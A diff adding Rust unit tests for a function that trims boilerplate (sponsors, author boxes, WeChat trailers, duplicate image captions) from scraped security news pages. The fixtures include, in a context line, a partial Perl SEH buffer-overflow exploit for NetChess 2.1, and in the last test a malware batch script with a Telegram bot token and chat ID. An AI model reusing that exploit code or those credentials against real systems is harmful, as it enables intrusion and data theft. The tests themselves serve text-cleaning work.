@@ -3125,3 +3125,196 @@ fn unfenced_codes_comments_between_its_statements_keep_its_lines() {
         "NetChess 2.1 Buffer Overflow\n\nThe program copies the name of a game file into a fixed buffer on the stack, so a long name overwrites the structured exception handler.\n\n#!/usr/bin/perl\nmy $file= \"exploit.pgn\";\nmy $junk= \"\\x41\" x 336;\n#JMP short 6bytes\nmy $seh=\"\\xeb\\x06\\xcc\\xcc\";\n#bad chars: \\x00\\x0a\\x1a\nmy $nop= \"\\x90\" x 10;\nopen($FILE,\">$file\");\n\nOpen the file in NetChess and the calculator starts.\n"
     );
 }
+
+#[test]
+fn a_bold_heading_over_its_paragraph_keeps_its_line() {
+    // A bold line over its paragraph (the converter wrote the page's `<br>` as a line's end)
+    // is a heading on a line of its own; a short value under a bold label runs on after a
+    // space.
+    let page = r#"---
+title: 黑客利用未修补漏洞攻击芬兰赫尔辛基教育部门
+url: https://www.anquanke.com/post/id/296473
+---
+
+# 黑客利用未修补漏洞攻击芬兰赫尔辛基教育部门
+
+赫尔辛基市正在调查其教育部门的一起数据泄露事件，该事件于四月底被发现。
+
+**赫尔辛基教育部门数据泄露与远程访问漏洞有关**
+初步调查发现，赫尔辛基教育部门的数据泄露可能是由于远程访问服务器的漏洞造成的。
+
+**DEF CON 34**
+Aug. 6-9, 2026
+"#;
+    assert_eq!(
+        trimmed("spam-trim", page.as_bytes()),
+        r#"黑客利用未修补漏洞攻击芬兰赫尔辛基教育部门
+
+赫尔辛基市正在调查其教育部门的一起数据泄露事件，该事件于四月底被发现。
+
+赫尔辛基教育部门数据泄露与远程访问漏洞有关
+初步调查发现，赫尔辛基教育部门的数据泄露可能是由于远程访问服务器的漏洞造成的。
+
+DEF CON 34 Aug. 6-9, 2026
+"#
+    );
+}
+
+#[test]
+fn a_wechat_accounts_end_mark_begins_its_trailer() {
+    // What a WeChat account writes under its article's `- END -` mark is its own box: a
+    // vendor's subscription pitch and its phone line go with the mark.
+    let page = r#"---
+title: Apache Struts2文件上传漏洞
+url: https://mp.weixin.qq.com/s/abcdef
+---
+
+# Apache Struts2文件上传漏洞
+
+近日，微步情报局监测到Apache Struts2文件上传漏洞，攻击者可以利用该漏洞上传恶意文件并执行任意代码。
+
+微步威胁感知平台TDP已支持检测，建议用户尽快升级到最新版本。
+
+- END -
+
+**微步漏洞情报订阅服务**
+
+微步提供漏洞情报订阅服务，精准、高效助力企业漏洞运营：
+
+* 提供高价值漏洞情报，具备及时、准确、全面和可操作性，帮助企业高效应对漏洞应急与日常运营难题；
+
+点此电话咨询
+"#;
+    assert_eq!(
+        trimmed("spam-trim", page.as_bytes()),
+        r#"Apache Struts2文件上传漏洞
+
+近日，微步情报局监测到Apache Struts2文件上传漏洞，攻击者可以利用该漏洞上传恶意文件并执行任意代码。
+
+微步威胁感知平台TDP已支持检测，建议用户尽快升级到最新版本。
+"#
+    );
+}
+
+#[test]
+fn a_weekly_updates_references_stay_without_its_sponsor() {
+    // A weekly update of one paragraph: its references (tweets of one site, under `###
+    // References`) stay after its podcast's badges; its sponsor's lines and the author's
+    // box (`##### Troy Hunt`) go.
+    let page = r#"---
+title: Weekly Update 356
+url: https://www.troyhunt.com/weekly-update-356/
+---
+
+# Weekly Update 356
+
+* [Home](https://www.troyhunt.com/)
+* [Workshops](https://www.troyhunt.com/workshops/)
+
+**Sponsored by:**
+
+Today was a bit back-to-back having just wrapped up the British Airways Magecart attack webinar with Scott, which was a great session.
+
+[![Listen on Apple Podcasts](https://www.troyhunt.com/content/images/a.svg)](https://itunes.apple.com/au/podcast/1)
+
+[![Download via RSS](https://www.troyhunt.com/content/images/b.svg)](https://omny.fm/shows/troy-hunt-weekly-update/playlists/podcast.rss)
+
+### References
+
+1. [Sponsored by: Americans lost $8.8B to identity theft in 2022. Secure your online info with Aura.](https://buy.aura.com/troyhunt)
+2. [Scott Helme and I did a Report URI webinar just before this video](https://report-uri.com/webinar/1)
+3. [The renos have been very trying on my patience](https://twitter.com/troyhunt/status/1679053713678413824) (but the garage is looking totally epic)
+
+[Weekly update](/tag/weekly-update/)
+
+[Tweet](https://twitter.com/share?text=Weekly%20Update%20356)
+ [Post](https://www.facebook.com/sharer/sharer.php?u=1)
+
+Troy Hunt's Picture
+
+##### Troy Hunt
+
+Hi, I'm Troy Hunt, I write this blog, create courses for Pluralsight and am a Microsoft Regional Director and MVP who travels the world speaking at events.
+"#;
+    assert_eq!(
+        trimmed("spam-trim", page.as_bytes()),
+        r#"Weekly Update 356
+
+Today was a bit back-to-back having just wrapped up the British Airways Magecart attack webinar with Scott, which was a great session.
+
+References
+
+2. Scott Helme and I did a Report URI webinar just before this video
+3. The renos have been very trying on my patience (but the garage is looking totally epic)
+"#
+    );
+}
+
+#[test]
+fn two_images_of_one_alt_text_over_their_caption_say_it_once() {
+    // A page's placeholder and its picture side by side, both named as the caption under
+    // them says: the caption stays, once.
+    let page = r#"---
+title: Cybercrime nordcoreano
+url: https://www.cybersecurity360.it/nuove-minacce/cybercrime-nordcoreano/
+---
+
+# Cybercrime nordcoreano
+
+La Corea del Nord ha dimostrato una crescente abilità nel condurre operazioni digitali malevole contro le criptovalute.
+
+![Nord Corea: furti criptovalute in crescita dopo i tagli alla difesa](data:image/png;base64...)![Nord Corea: furti criptovalute in crescita dopo i tagli alla difesa](https://dnewpydm90vfx.cloudfront.net/a.jpg)
+
+Nord Corea: furti criptovalute in crescita dopo i tagli alla difesa
+
+Il regime usa i proventi per finanziare il programma nucleare, secondo gli analisti delle Nazioni Unite.
+"#;
+    assert_eq!(
+        trimmed("spam-trim", page.as_bytes()),
+        r#"Cybercrime nordcoreano
+
+La Corea del Nord ha dimostrato una crescente abilità nel condurre operazioni digitali malevole contro le criptovalute.
+
+Nord Corea: furti criptovalute in crescita dopo i tagli alla difesa
+
+Il regime usa i proventi per finanziare il programma nucleare, secondo gli analisti delle Nazioni Unite.
+"#
+    );
+}
+
+#[test]
+fn a_batch_files_lines_without_a_fence_stay_lines() {
+    // A batch file a converter left without a fence: its commands stay lines.
+    let page = r#"---
+title: 攻击者利用 SourceForge 传播恶意软件
+url: https://www.anquanke.com/post/id/306000
+---
+
+# 攻击者利用 SourceForge 传播恶意软件
+
+然后，恶意软件会执行嵌入的 Visual Basic 脚本，从 GitHub 上下载一个批处理文件：
+
+chcp 65001 >nul
+setlocal EnableDelayedExpansion
+set “TOKEN=7604003483:AAGGIo6lbNlshSjnvsGlw7OmBjLBc4r55FA”
+set “CHAT\_ID=5674938532”
+set “IP=Unknown”
+
+一旦解压，恶意软件就会建立多种实现持续驻留的机制。
+"#;
+    assert_eq!(
+        trimmed("spam-trim", page.as_bytes()),
+        r#"攻击者利用 SourceForge 传播恶意软件
+
+然后，恶意软件会执行嵌入的 Visual Basic 脚本，从 GitHub 上下载一个批处理文件：
+
+chcp 65001 >nul
+setlocal EnableDelayedExpansion
+set “TOKEN=7604003483:AAGGIo6lbNlshSjnvsGlw7OmBjLBc4r55FA”
+set “CHAT_ID=5674938532”
+set “IP=Unknown”
+
+一旦解压，恶意软件就会建立多种实现持续驻留的机制。
+"#
+    );
+}
